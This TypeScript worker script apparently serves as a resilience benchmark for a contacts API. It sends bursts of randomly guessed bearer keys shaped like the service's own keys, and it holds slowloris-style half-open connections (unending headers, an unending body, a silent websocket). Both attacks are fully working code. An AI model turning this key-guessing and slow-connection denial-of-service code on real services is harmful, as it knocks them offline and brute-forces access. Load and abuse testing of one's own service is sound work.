import { randomBytes } from 'node:crypto';
import { Agent, request } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { parentPort, workerData } from 'node:worker_threads';

/** What an attack does. */
export interface AttackPlan {
  url: string;
  guesses: number;
  /** Guesses under way together. */
  atOnce: number;
  slowPeers: number;
}

/** What the attacker saw. */
export interface AttackFigures {
  /** Guesses by status, or by the code of an error. */
  outcomes: Record<string, number>;
  guessMs: number;
  /** Slow connections that were opened, and of these closed by the service. */
  opened: number;
  closed: number;
}

const plan = workerData as AttackPlan;
const { hostname, port, host } = new URL(plan.url);
const TIMEOUT_MS = 30_000;
const TRICKLE_MS = 1_000;
const REOPEN_MS = 1_000;

const outcomes: Record<string, number> = {};
let opened = 0;
let closed = 0;
let isOver = false;

/** Looks like a key of this service, so that it is looked up. */
function guessedKey(): string {
  return `auz_${randomBytes(4).toString('hex')}_${randomBytes(32).toString('base64url')}`;
}

async function guess(agent: Agent): Promise<void> {
  const { promise, resolve } = Promise.withResolvers<string>();
  const calling = request(`${plan.url}/api/contacts?organization_id=bench-0&limit=1`, {
    agent,
    headers: { authorization: `Bearer ${guessedKey()}` },
    timeout: TIMEOUT_MS,
  });
  calling.on('timeout', () => calling.destroy());
  calling.on('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? 'error'));
  calling.on('response', (response) => {
    response.on('error', () => resolve('cut off'));
    response.on('end', () => resolve(String(response.statusCode)));
    response.resume();
  });
  calling.end();
  const outcome = await promise;
  outcomes[outcome] = (outcomes[outcome] ?? 0) + 1;
}

/** Half-open in one of three ways, again and again: headers that never end, a body that never ends, a socket that never speaks. */
const OPENINGS = [
  () => `GET /api/contacts HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `,
  () =>
    `POST /api/contacts HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${guessedKey()}\r\nContent-Type: application/json\r\nContent-Length: 90000\r\n\r\n{"`,
  () =>
    `GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: ${host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n`,
];

async function beSlow(place: number): Promise<void> {
  const opening = OPENINGS[place % OPENINGS.length]!;
  const isSilent = place % OPENINGS.length === 2;
  while (!isOver) {
    const socket = connect(Number(port), hostname);
    const gone = Promise.withResolvers<void>();
    socket.on('error', () => undefined);
    socket.once('close', () => gone.resolve());
    socket.once('connect', () => {
      opened += 1;
      socket.write(opening());
    });
    socket.resume();
    const trickle = setInterval(() => {
      if (isOver) {
        socket.destroy();
      } else if (!isSilent) {
        socket.write('x');
      }
    }, TRICKLE_MS);
    await gone.promise;
    clearInterval(trickle);
    closed += isOver ? 0 : 1;
    await delay(isOver ? 0 : REOPEN_MS);
  }
}

const slow = Array.from({ length: plan.slowPeers }, (_, place) => beSlow(place));
await delay(REOPEN_MS);
const agent = new Agent({ keepAlive: true, maxSockets: plan.atOnce });
const startedAt = performance.now();
let begun = 0;
await Promise.all(
  Array.from({ length: plan.atOnce }, async () => {
    while (begun < plan.guesses) {
      begun += 1;
      await guess(agent);
    }
  }),
);
const guessMs = performance.now() - startedAt;
agent.destroy();
isOver = true;
await Promise.all(slow);
parentPort?.postMessage({ outcomes, guessMs, opened, closed } satisfies AttackFigures);
